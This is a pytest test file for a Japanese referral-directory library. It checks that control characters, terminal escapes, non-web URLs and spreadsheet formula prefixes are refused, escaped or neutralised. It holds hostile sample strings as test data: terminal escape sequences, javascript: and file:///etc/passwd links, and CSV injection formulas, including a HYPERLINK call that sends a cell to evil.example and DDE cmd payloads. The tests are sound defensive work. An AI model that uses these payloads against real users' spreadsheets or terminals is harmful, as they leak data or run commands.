"""Hostile text: control characters and terminal escapes are refused in the data, neutralised
on display anyway; spreadsheet formulas are escaped in CSV; only web links are kept as URLs;
GraphML of odd (but allowed) text parses back unchanged."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import networkx as nx
import pydantic
import pytest
from helpers import CITE, DAY, agency, tiny_document, write_raw

from referral import Directory, ValidationError
from referral._data import dump_document
from referral._render import agency_card, csv_text, printable, render_plan, table
from referral.interop import export, tables
from referral.models import Agency, Area, Citation, Document, Link, Phone, Source, Text

HOSTILE = {
    "NUL": "西区\x00役所",
    "title escape (OSC)": "\x1b]0;pwned\x07西区役所",
    "clear screen (CSI)": "西区役所\x1b[2J",
    "8-bit CSI (C1)": "西区\x9b2J役所",
    "DEL": "西区\x7f役所",
    "carriage return": "西区役所\r偽の窓口",
    "tab": "西区\t役所",
    "backspace": "西区役所\x08\x08",
    "bell": "\x07西区役所",
}
"""Text a file or an import could carry to a terminal (each holds a C0, C1 or DEL)."""


def _construct(**fields: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "id": "w.hostile",
        "name": {"ja": "西区役所", "en": "Nishi"},
        "kind": "ward_office",
        "tier": "ward",
        "area": "w",
        "attested": True,
        "sources": [{"source": "test"}],
        "checked": "2026-01-01",
    }
    base.update(fields)
    return base


def _plain_text_fields(text: str) -> list[tuple[str, Any]]:
    """One model per field that holds one line of text, with ``text`` put there."""
    return [
        ("agency name.ja", lambda: Agency.model_validate(_construct(name={"ja": text, "en": "x"}))),
        ("agency name.en", lambda: Agency.model_validate(_construct(name={"ja": "x", "en": text}))),
        ("agency address", lambda: Agency.model_validate(_construct(address=text))),
        ("agency operator", lambda: Agency.model_validate(_construct(operator=text))),
        (
            "agency remarks",
            lambda: Agency.model_validate(_construct(remarks={"ja": text, "en": "x"})),
        ),
        ("phone label", lambda: Phone(number="045-000-0000", label=text)),
        ("phone label_en", lambda: Phone(number="045-000-0000", label_en=text)),
        ("citation detail", lambda: Citation(source="test", detail=text)),
        ("source title", lambda: Source(id="s", title=text)),
        (
            "area name",
            lambda: Area(
                id="a", kind="ward", name=Text(ja=text, en="x"), sources=CITE, checked=DAY
            ),
        ),
    ]


@pytest.mark.parametrize("what", sorted(HOSTILE))
@pytest.mark.parametrize("field", [name for name, _ in _plain_text_fields("")])
def test_validation_refuses_control_characters(what: str, field: str) -> None:
    build = dict(_plain_text_fields(HOSTILE[what]))[field]
    with pytest.raises(pydantic.ValidationError, match=r"control character U\+00[0-9A-F]{2}") as e:
        build()
    message = str(e.value)
    assert not any(unicodedata.category(ch) == "Cc" and ch != "\n" for ch in message), message


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_notes_refuse_control_characters_but_may_span_lines(what: str) -> None:
    ok = Agency.model_validate(_construct(notes="一行目\n二行目"))
    assert ok.notes == "一行目\n二行目"
    assert Link(source="a", target="b", kind="part_of", sources=CITE, note="x\ny").note == "x\ny"
    with pytest.raises(pydantic.ValidationError, match="control character"):
        Agency.model_validate(_construct(notes=HOSTILE[what]))
    with pytest.raises(pydantic.ValidationError, match="control character"):
        Link(source="a", target="b", kind="part_of", sources=CITE, note=HOSTILE[what])


def test_a_name_cannot_span_lines() -> None:
    with pytest.raises(pydantic.ValidationError, match=r"U\+000A"):
        Agency.model_validate(_construct(name={"ja": "西区\n役所", "en": "x"}))


def test_a_file_with_a_terminal_escape_is_refused_at_its_place(tmp_path: Path) -> None:
    raw = dump_document(tiny_document())
    data = json.loads(raw)
    data["agencies"][0]["name"]["ja"] = HOSTILE["title escape (OSC)"]
    path = write_raw(tmp_path / "agencies.json", data)
    with pytest.raises(ValidationError) as e:
        Directory.from_path(path)
    problem = e.value.problems[0]
    assert problem.path == "$.agencies[0]"
    assert problem.message.startswith("name.ja: control character U+001B at position 0")
    assert "\x1b" not in str(e.value)


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://www.city.yokohama.lg.jp/kurashi/x.html?a=1#b", True),
        ("http://example.org/", True),
        ("HTTPS://EXAMPLE.ORG/", True),
        ("javascript:alert(1)", False),
        ("JavaScript:alert(1)", False),
        (" javascript:alert(1)", False),
        ("java\tscript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("file:///etc/passwd", False),
        ("ftp://example.org/", False),
        ("//example.org/", False),
        ("https://", False),
        ("https:///path", False),
        ("www.example.org", False),
        ("https://exa mple.org/", False),
        ("https://example.org/\x1b[2J", False),
    ],
)
def test_only_web_links_are_urls(url: str, ok: bool) -> None:
    builders: list[Callable[[], str | None]] = [
        lambda: Agency.model_validate(_construct(url=url)).url,
        lambda: Source(id="s", title="t", url=url).url,
    ]
    for build in builders:
        if ok:
            assert build() == url
        else:
            with pytest.raises(pydantic.ValidationError, match="url"):
                build()


def test_the_bundled_directory_passes_the_text_rules(bundled: Directory) -> None:
    assert all(a.url is None or a.url.startswith(("http://", "https://")) for a in bundled.agencies)
    assert Document.model_validate(bundled.document.model_dump()) == bundled.document


# -- display: neutralised even for records built in memory without validation ---------------
def _hostile_directory(text: str) -> Directory:
    """The tiny network with one body whose every text field holds ``text`` (built without
    validation, as code that constructs records in memory could)."""
    doc = tiny_document()
    bad = doc.agencies[0].model_copy(
        update={
            "name": Text.model_construct(ja=text, en=text),
            "address": text,
            "operator": text,
            "notes": text,
            "url": "javascript:" + text,
            "remarks": Text.model_construct(ja=text, en=text),
            "phones": (Phone.model_construct(number="045-000-0000", label=text, label_en=text),),
        }
    )
    return Directory(doc.model_copy(update={"agencies": (bad, *doc.agencies[1:])}))


def _controls(text: str) -> list[str]:
    return [
        f"U+{ord(ch):04X}"
        for ch in text
        if ch != "\n"
        and (unicodedata.category(ch) in ("Cc", "Zl", "Zp") or 0x202A <= ord(ch) <= 0x202E)
    ]


@pytest.mark.parametrize("what", sorted(HOSTILE))
@pytest.mark.parametrize("lang", ["ja", "en"])
def test_display_neutralises_control_characters(what: str, lang: str) -> None:
    d = _hostile_directory(HOSTILE[what])
    ag = next(a for a in d.agencies if a.name.ja == HOSTILE[what])
    area = d.area(ag.area)
    card = agency_card(
        ag,
        lang=lang,  # type: ignore[arg-type]
        area=area,
        ward=None,
        contact=ag,
        links=[("→", "connects_to", ag)],
        source_titles={"test": HOSTILE[what]},
        provenance=True,
        source_credits={"test": HOSTILE[what]},
    )
    assert _controls(card) == [], card
    assert "西区" in card  # the text is still shown, only its control characters are not
    rows = table(["id", "name"], [[ag.id, ag.name.ja]])
    assert _controls(rows) == [] and "西区" in rows
    plan = d.route("ゴミ屋敷で困っている", area="a地域ケアプラザ圏域")
    names = {a.id: a.name for a in d.agencies}
    assert _controls(render_plan(plan, names, lang=lang)) == []  # type: ignore[arg-type]
    assert _controls(csv_text(["name"], [[ag.name.ja]])) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;x\x07", "\\x1b]0;x\\x07"),
        ("a\x00b", "a\\x00b"),
        ("a\x9bb", "a\\x9bb"),
        ("a\u202eb", "a\\u202eb"),
        ("a\u2028b", "a\\u2028b"),
        ("a\nb", "a\\nb"),
        ("西区役所 (ok)", "西区役所 (ok)"),
    ],
)
def test_printable_escapes_visibly_and_is_idempotent(text: str, shown: str) -> None:
    assert printable(text) == shown
    assert printable(printable(text)) == shown


# -- spreadsheets: formula prefixes are escaped -----------------------------------------
FORMULAS = {
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\\t=1+1",  # and the control character is shown escaped
    "\r=1+1": "'\\r=1+1",
}
"""A cell's text and what the CSV must hold (OWASP: a formula prefix gets an apostrophe)."""


@pytest.mark.parametrize("formula", sorted(FORMULAS))
def test_csv_export_escapes_formula_prefixes(formula: str) -> None:
    doc = tiny_document()
    bad = doc.agencies[0].model_copy(
        update={
            "name": Text.model_construct(ja=formula, en=formula),
            "url": "javascript:alert(1)",
        }
    )
    d = Directory(doc.model_copy(update={"agencies": (bad, *doc.agencies[1:])}))
    nodes, _ = tables(d.document)
    row = next(r for r in csv.DictReader(io.StringIO(nodes)) if r["id"] == bad.id)
    assert row["name_ja"] == row["name_en"] == FORMULAS[formula]
    assert row["url"] == ""  # only web links are exported as links
    assert row["lat"] == "" and row["tier_rank"].isdigit()  # numbers stay numbers
    (cli,) = list(csv.reader(io.StringIO(csv_text(["name"], [[formula]]))))[1:]
    assert cli == [FORMULAS[formula]]


def test_csv_leaves_negative_numbers_and_plain_text_alone() -> None:
    body: list[list[Any]] = [["西区役所", -35.5, "a-b", "メール@例"]]
    rows = list(csv.reader(io.StringIO(csv_text(["w", "x", "y", "z"], body))))
    assert rows[1] == ["西区役所", "-35.5", "a-b", "メール@例"]


# -- GraphML: odd but allowed text parses back unchanged ----------------------------------
ODD = [
    "<b>西区</b> & \"役所\" 'x'",
    "]]> <![CDATA[ x ]]>",
    "&amp; &#0; &#x1b;",
    '=HYPERLINK("http://x")',
    "🏥 病院 \u202e右から左\u202c",
    "全角　スペース  二つ ",
    "行\u2028区切り",
    "\ufeffBOM",
]


def test_graphml_of_odd_but_allowed_text_parses_back(tmp_path: Path) -> None:
    extra = tuple(
        agency(
            f"w.odd{i}",
            "ward_office",
            "w",
            name=Text(ja=text, en=text),
            url="https://x.example/?a=1&b=<2>",
        )
        for i, text in enumerate(ODD)
    )
    d = Directory(tiny_document(extra=extra))
    (path,) = export(d.document, "graphml", tmp_path)
    G = nx.read_graphml(path)
    for ag in extra:
        assert G.nodes[ag.id]["name_ja"] == ag.name.ja
        assert G.nodes[ag.id]["url"] == ag.url
    assert G.number_of_nodes() == len(d.agencies)


@pytest.mark.parametrize("what", sorted(HOSTILE))
def test_graphml_of_hostile_text_built_in_memory_still_parses(what: str, tmp_path: Path) -> None:
    d = _hostile_directory(HOSTILE[what])
    for fmt, read in (("graphml", nx.read_graphml), ("gexf", nx.read_gexf)):
        (path,) = export(d.document, fmt, tmp_path)  # type: ignore[arg-type]
        G = read(path)
        names = [data["name_ja"] for _, data in G.nodes(data=True) if "西区" in data["name_ja"]]
        assert names and all(_controls(n) == [] for n in names), names
